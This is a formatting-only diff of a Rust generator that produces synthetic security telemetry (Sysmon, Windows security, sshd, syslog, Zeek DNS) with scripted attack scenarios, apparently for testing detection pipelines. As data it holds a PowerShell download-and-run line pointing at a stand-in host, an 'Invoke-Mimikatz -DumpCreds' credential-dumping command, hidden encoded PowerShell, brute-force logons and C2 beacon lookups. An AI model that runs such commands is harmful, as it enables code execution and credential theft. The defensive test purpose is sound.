@@ -74,7 +74,8 @@ fn yes() -> bool {
 impl ComponentConfig for GeneratorConfig {
     const TYPE: &'static str = "generator";
     const SECTION: Section = Section::Source;
-    const DESCRIPTION: &'static str = "Synthetic Windows, Linux, Zeek and firewall telemetry with attack scenarios";
+    const DESCRIPTION: &'static str =
+        "Synthetic Windows, Linux, Zeek and firewall telemetry with attack scenarios";
     const ACCEPTS: &'static [StreamKind] = &[];
     const OUTPUT: Option<StreamKind> = Some(StreamKind::Records);
 
@@ -82,7 +83,10 @@ impl ComponentConfig for GeneratorConfig {
         let start = chrono::DateTime::parse_from_rfc3339(&self.start_time)
             .map_err(|e| anyhow::anyhow!("start_time `{}`: {e}", self.start_time))?
             .timestamp_millis();
-        Ok(Built::Source(Arc::new(GeneratorFactory { config: self, start_ms: start })))
+        Ok(Built::Source(Arc::new(GeneratorFactory {
+            config: self,
+            start_ms: start,
+        })))
     }
 }
 
@@ -139,10 +143,20 @@ impl Rng {
 }
 
 const WORKSTATIONS: &[&str] = &[
-    "ws-01.corp.local", "ws-02.corp.local", "ws-03.corp.local", "ws-04.corp.local", "ws-05.corp.local",
-    "ws-06.corp.local", "ws-07.corp.local", "ws-08.corp.local", "ws-09.corp.local", "ws-10.corp.local",
+    "ws-01.corp.local",
+    "ws-02.corp.local",
+    "ws-03.corp.local",
+    "ws-04.corp.local",
+    "ws-05.corp.local",
+    "ws-06.corp.local",
+    "ws-07.corp.local",
+    "ws-08.corp.local",
+    "ws-09.corp.local",
+    "ws-10.corp.local",
 ];
-const USERS: &[&str] = &["alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi"];
+const USERS: &[&str] = &[
+    "alice", "bob", "carol", "dave", "erin", "frank", "grace", "heidi",
+];
 const LINUX_HOSTS: &[&str] = &["web-01", "web-02", "db-01", "bastion"];
 const BENIGN: &[(&str, &str)] = &[
     ("C:\\Windows\\System32\\svchost.exe", "C:\\Windows\\system32\\svchost.exe -k netsvcs -p -s Schedule"),
@@ -153,12 +167,30 @@ const BENIGN: &[(&str, &str)] = &[
     ("C:\\Windows\\System32\\conhost.exe", "\\??\\C:\\Windows\\system32\\conhost.exe 0xffffffff -ForceV1"),
     ("C:\\Windows\\System32\\taskhostw.exe", "taskhostw.exe {222A245B-E637-4AE9-A93F-A59CA119A75E}"),
 ];
-const PUBLIC_DST: &[&str] = &["198.51.100.7", "198.51.100.23", "203.0.113.40", "203.0.113.41", "192.0.2.80"];
-const DOMAINS: &[&str] = &["www.example.com", "login.example.net", "cdn.example.org", "updates.example.com", "mail.example.com"];
+const PUBLIC_DST: &[&str] = &[
+    "198.51.100.7",
+    "198.51.100.23",
+    "203.0.113.40",
+    "203.0.113.41",
+    "192.0.2.80",
+];
+const DOMAINS: &[&str] = &[
+    "www.example.com",
+    "login.example.net",
+    "cdn.example.org",
+    "updates.example.com",
+    "mail.example.com",
+];
 const TI_IP: &str = "45.155.205.233";
 
 impl Generator {
-    pub fn new(component: Arc<str>, config: GeneratorConfig, start_ms: i64, worker: u64, workers: u64) -> Self {
+    pub fn new(
+        component: Arc<str>,
+        config: GeneratorConfig,
+        start_ms: i64,
+        worker: u64,
+        workers: u64,
+    ) -> Self {
         let encoded_commands = [
             "IEX (New-Object Net.WebClient).DownloadString('http://dl.badcdn.example/payload.ps1')",
             "Invoke-Mimikatz -DumpCreds",
@@ -204,7 +236,16 @@ impl Generator {
                 let (image, cmd) = BENIGN[rng.below(BENIGN.len() as u64) as usize];
                 let host = rng.pick(WORKSTATIONS);
                 let user = rng.pick(USERS);
-                self.sysmon_process(ts, k, host, user, image, cmd, "C:\\Windows\\explorer.exe", &mut rng);
+                self.sysmon_process(
+                    ts,
+                    k,
+                    host,
+                    user,
+                    image,
+                    cmd,
+                    "C:\\Windows\\explorer.exe",
+                    &mut rng,
+                );
             }
             25..=34 => {
                 let host = rng.pick(WORKSTATIONS);
@@ -214,12 +255,28 @@ impl Generator {
             35..=44 => {
                 let user = rng.pick(USERS);
                 let host = rng.pick(WORKSTATIONS);
-                self.security_logon(ts, k, 4624, "dc1.corp.local", user, &format!("10.10.{}.{}", rng.below(4), 10 + rng.below(200)), host);
+                self.security_logon(
+                    ts,
+                    k,
+                    4624,
+                    "dc1.corp.local",
+                    user,
+                    &format!("10.10.{}.{}", rng.below(4), 10 + rng.below(200)),
+                    host,
+                );
             }
             45..=49 => {
                 let user = rng.pick(USERS);
                 let host = rng.pick(WORKSTATIONS);
-                self.security_logon(ts, k, 4625, "dc1.corp.local", user, &format!("10.10.{}.{}", rng.below(4), 10 + rng.below(200)), host);
+                self.security_logon(
+                    ts,
+                    k,
+                    4625,
+                    "dc1.corp.local",
+                    user,
+                    &format!("10.10.{}.{}", rng.below(4), 10 + rng.below(200)),
+                    host,
+                );
             }
             50..=59 => {
                 let host = rng.pick(LINUX_HOSTS);
@@ -247,13 +304,40 @@ impl Generator {
 
     fn scenario(&mut self, block: u64, p: u64, ts: i64, k: u64, rng: &mut Rng) -> bool {
         match (block % 4, p) {
-            (0, 100..=107) => self.security_logon(ts, k, 4625, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
-            (0, 110) => self.security_logon(ts, k, 4624, "dc1.corp.local", "svc-backup", TI_IP, "unknown"),
+            (0, 100..=107) => self.security_logon(
+                ts,
+                k,
+                4625,
+                "dc1.corp.local",
+                "svc-backup",
+                TI_IP,
+                "unknown",
+            ),
+            (0, 110) => self.security_logon(
+                ts,
+                k,
+                4624,
+                "dc1.corp.local",
+                "svc-backup",
+                TI_IP,
+                "unknown",
+            ),
             (0, 120) => self.security_group_add(ts, k, "dc1.corp.local", "svc-backup"),
             (1, 200) => {
-                let enc = self.encoded_commands[(block as usize / 4) % self.encoded_commands.len()].clone();
-                let cmd = format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {enc}");
-                self.sysmon_process(ts, k, "ws-07.corp.local", "alice", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", &cmd, "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE", rng)
+                let enc = self.encoded_commands[(block as usize / 4) % self.encoded_commands.len()]
+                    .clone();
+                let cmd =
+                    format!("powershell.exe -NoProfile -WindowStyle Hidden -EncodedCommand {enc}");
+                self.sysmon_process(
+                    ts,
+                    k,
+                    "ws-07.corp.local",
+                    "alice",
+                    "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
+                    &cmd,
+                    "C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE",
+                    rng,
+                )
             }
             (1, 201) => self.zeek_dns(ts, k, "update-check.badcdn.example", rng),
             (2, 300..=303) => {
@@ -264,8 +348,20 @@ impl Generator {
             (2, 306) => self.zeek_dns(ts, k, "beacon.evil-c2.example", rng),
             (3, 400..=405) => self.sshd(ts, "bastion", false, "root", "185.220.101.9", rng),
             (3, 410) => self.sshd(ts, "bastion", true, "deploy", "185.220.101.9", rng),
-            (3, 415) => self.syslog_line(ts, "bastion", "sudo", None, "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash"),
-            (3, 416) => self.syslog_line(ts, "bastion", "usermod", Some(31337), "add 'deploy' to group 'sudo'"),
+            (3, 415) => self.syslog_line(
+                ts,
+                "bastion",
+                "sudo",
+                None,
+                "deploy : TTY=pts/0 ; PWD=/home/deploy ; USER=root ; COMMAND=/bin/bash",
+            ),
+            (3, 416) => self.syslog_line(
+                ts,
+                "bastion",
+                "usermod",
+                Some(31337),
+                "add 'deploy' to group 'sudo'",
+            ),
             _ => return false,
         }
         true
@@ -274,11 +370,19 @@ impl Generator {
     fn malformed(&mut self, n: u64, ts: i64) {
         let b = &mut self.buf;
         match n % 5 {
-            0 => b.extend_from_slice(br#"{"Event":{"System":{"EventID":4625,"Channel":"Security","Comp"#),
+            0 => b.extend_from_slice(
+                br#"{"Event":{"System":{"EventID":4625,"Channel":"Security","Comp"#,
+            ),
             1 => b.extend_from_slice(b"<38>Jan  5 08:0"),
-            2 => b.extend_from_slice(b"<38>Jan  5 08:00:00 web-01 sshd[1]: Failed password for \xff\xfe from 10.0.0.1"),
+            2 => b.extend_from_slice(
+                b"<38>Jan  5 08:00:00 web-01 sshd[1]: Failed password for \xff\xfe from 10.0.0.1",
+            ),
             3 => {
-                let _ = write!(b, r#"{{"Event":{{"System":{{"EventID":1,"TimeCreated":{{"{}attributes":{{"SystemTime":"not-a-time-{ts}"}}}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01.corp.local"}},"EventData":{{"Image":"C:\\x.exe"}}}}}}"#, '#');
+                let _ = write!(
+                    b,
+                    r#"{{"Event":{{"System":{{"EventID":1,"TimeCreated":{{"{}attributes":{{"SystemTime":"not-a-time-{ts}"}}}},"Channel":"Microsoft-Windows-Sysmon/Operational","Computer":"ws-01.corp.local"}},"EventData":{{"Image":"C:\\x.exe"}}}}}}"#,
+                    '#'
+                );
             }
             _ => b.extend_from_slice(b"!!! garbage from a misconfigured forwarder !!!"),
         }
@@ -299,15 +403,47 @@ impl Generator {
         );
     }
 
-    fn win_header(&mut self, ts: i64, k: u64, provider: &str, channel: &str, event_id: u32, computer: &str) {
-        let _ = write!(self.buf, r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"{provider}"}}}},"EventID":{event_id},"Version":2,"Level":4,"Keywords":"0x8020000000000000","TimeCreated":{{"#attributes":{{"SystemTime":""##);
+    fn win_header(
+        &mut self,
+        ts: i64,
+        k: u64,
+        provider: &str,
+        channel: &str,
+        event_id: u32,
+        computer: &str,
+    ) {
+        let _ = write!(
+            self.buf,
+            r##"{{"Event":{{"System":{{"Provider":{{"#attributes":{{"Name":"{provider}"}}}},"EventID":{event_id},"Version":2,"Level":4,"Keywords":"0x8020000000000000","TimeCreated":{{"#attributes":{{"SystemTime":""##
+        );
         self.win_time(ts);
-        let _ = write!(self.buf, r#""}}}},"EventRecordID":{},"Channel":"{channel}","Computer":"{computer}"}},"EventData":{{"#, k + 1);
+        let _ = write!(
+            self.buf,
+            r#""}}}},"EventRecordID":{},"Channel":"{channel}","Computer":"{computer}"}},"EventData":{{"#,
+            k + 1
+        );
     }
 
     #[allow(clippy::too_many_arguments)]
-    fn sysmon_process(&mut self, ts: i64, k: u64, host: &str, user: &str, image: &str, cmd: &str, parent: &str, rng: &mut Rng) {
-        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 1, host);
+    fn sysmon_process(
+        &mut self,
+        ts: i64,
+        k: u64,
+        host: &str,
+        user: &str,
+        image: &str,
+        cmd: &str,
+        parent: &str,
+        rng: &mut Rng,
+    ) {
+        self.win_header(
+            ts,
+            k,
+            "Microsoft-Windows-Sysmon",
+            "Microsoft-Windows-Sysmon/Operational",
+            1,
+            host,
+        );
         let pid = 1000 + rng.below(30000);
         let _ = write!(
             self.buf,
@@ -323,7 +459,14 @@ impl Generator {
     }
 
     fn sysmon_network(&mut self, ts: i64, k: u64, host: &str, dst: &str, port: u16, rng: &mut Rng) {
-        self.win_header(ts, k, "Microsoft-Windows-Sysmon", "Microsoft-Windows-Sysmon/Operational", 3, host);
+        self.win_header(
+            ts,
+            k,
+            "Microsoft-Windows-Sysmon",
+            "Microsoft-Windows-Sysmon/Operational",
+            3,
+            host,
+        );
         let _ = write!(
             self.buf,
             r#""RuleName":"-","ProcessId":{},"Image":"C:\\Program Files\\Google\\Chrome\\Application\\chrome.exe","User":"CORP\\{}","Protocol":"tcp","Initiated":"true","SourceIp":"10.10.1.{}","SourcePort":{},"DestinationIp":"{dst}","DestinationPort":{port}}}}}}}"#,
@@ -335,9 +478,29 @@ impl Generator {
     }
 
     #[allow(clippy::too_many_arguments)]
-    fn security_logon(&mut self, ts: i64, k: u64, id: u32, dc: &str, user: &str, ip: &str, workstation: &str) {
-        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", id, dc);
-        let status = if id == 4625 { r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""# } else { "" };
+    fn security_logon(
+        &mut self,
+        ts: i64,
+        k: u64,
+        id: u32,
+        dc: &str,
+        user: &str,
+        ip: &str,
+        workstation: &str,
+    ) {
+        self.win_header(
+            ts,
+            k,
+            "Microsoft-Windows-Security-Auditing",
+            "Security",
+            id,
+            dc,
+        );
+        let status = if id == 4625 {
+            r#","Status":"0xc000006d","SubStatus":"0xc000006a","FailureReason":"%%2313""#
+        } else {
+            ""
+        };
         let _ = write!(
             self.buf,
             r#""SubjectUserSid":"S-1-0-0","TargetUserName":"{user}","TargetDomainName":"CORP","LogonType":3,"LogonProcessName":"NtLmSsp ","AuthenticationPackageName":"NTLM","WorkstationName":"{workstation}","IpAddress":"{ip}","IpPort":"-"{status}}}}}}}"#,
@@ -345,7 +508,14 @@ impl Generator {
     }
 
     fn security_group_add(&mut self, ts: i64, k: u64, dc: &str, user: &str) {
-        self.win_header(ts, k, "Microsoft-Windows-Security-Auditing", "Security", 4732, dc);
+        self.win_header(
+            ts,
+            k,
+            "Microsoft-Windows-Security-Auditing",
+            "Security",
+            4732,
+            dc,
+        );
         let _ = write!(
             self.buf,
             r#""MemberName":"CN={user},OU=Service Accounts,DC=corp,DC=local","MemberSid":"S-1-5-21-3623811015-3361044348-30300820-1107","TargetUserName":"Administrators","TargetDomainName":"Builtin","TargetSid":"S-1-5-32-544","SubjectUserName":"{user}","SubjectDomainName":"CORP"}}}}}}"#,
@@ -353,9 +523,19 @@ impl Generator {
     }
 
     fn syslog_time(&mut self, ts: i64) {
-        const MONTHS: [&str; 12] = ["Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec"];
+        const MONTHS: [&str; 12] = [
+            "Jan", "Feb", "Mar", "Apr", "May", "Jun", "Jul", "Aug", "Sep", "Oct", "Nov", "Dec",
+        ];
         let t = chrono::DateTime::from_timestamp_millis(ts).unwrap_or_default();
-        let _ = write!(self.buf, "{} {:>2} {:02}:{:02}:{:02}", MONTHS[t.month0() as usize], t.day(), t.hour(), t.minute(), t.second());
+        let _ = write!(
+            self.buf,
+            "{} {:>2} {:02}:{:02}:{:02}",
+            MONTHS[t.month0() as usize],
+            t.day(),
+            t.hour(),
+            t.minute(),
+            t.second()
+        );
     }
 
     fn syslog_line(&mut self, ts: i64, host: &str, app: &str, pid: Option<u64>, msg: &str) {
@@ -377,9 +557,15 @@ impl Generator {
         let pid = 1000 + rng.below(60000);
         let port = 30000 + rng.below(35000);
         if ok {
-            let _ = write!(self.buf, " {host} sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2");
+            let _ = write!(
+                self.buf,
+                " {host} sshd[{pid}]: Accepted password for {user} from {ip} port {port} ssh2"
+            );
         } else {
-            let _ = write!(self.buf, " {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2");
+            let _ = write!(
+                self.buf,
+                " {host} sshd[{pid}]: Failed password for {user} from {ip} port {port} ssh2"
+            );
         }
     }
 
@@ -483,7 +669,8 @@ impl Source for Generator {
             let share = (self.config.rate as f64 / self.step as f64).max(1.0);
             let due = (started.elapsed().as_secs_f64() * share) as u64 + 1;
             if due <= self.produced {
-                let wait = Duration::from_secs_f64((self.produced + 1) as f64 / share) .saturating_sub(started.elapsed());
+                let wait = Duration::from_secs_f64((self.produced + 1) as f64 / share)
+                    .saturating_sub(started.elapsed());
                 return Ok(SourcePoll::Pending(wait.max(Duration::from_millis(1))));
             }
             allowed = allowed.min(due - self.produced);
@@ -548,7 +735,8 @@ mod tests {
         assert!((250..=700).contains(&avg), "average record size {avg}");
         for (k, r) in &recs {
             if r.starts_with(b"{") {
-                serde_json::from_slice::<serde_json::Value>(r).unwrap_or_else(|e| panic!("record {k}: {e}: {}", String::from_utf8_lossy(r)));
+                serde_json::from_slice::<serde_json::Value>(r)
+                    .unwrap_or_else(|e| panic!("record {k}: {e}: {}", String::from_utf8_lossy(r)));
             } else {
                 assert!(r.starts_with(b"<"), "record {k}");
             }
@@ -571,7 +759,10 @@ mod tests {
         let recs = drain(&mut gen(1, 0, 100, 10));
         let broken = recs.iter().filter(|(k, _)| k % 10 == 5).count();
         assert_eq!(broken, 10);
-        assert!(std::str::from_utf8(&recs[25].1).is_err(), "the third kind is invalid UTF-8");
+        assert!(
+            std::str::from_utf8(&recs[25].1).is_err(),
+            "the third kind is invalid UTF-8"
+        );
     }
 
     #[test]
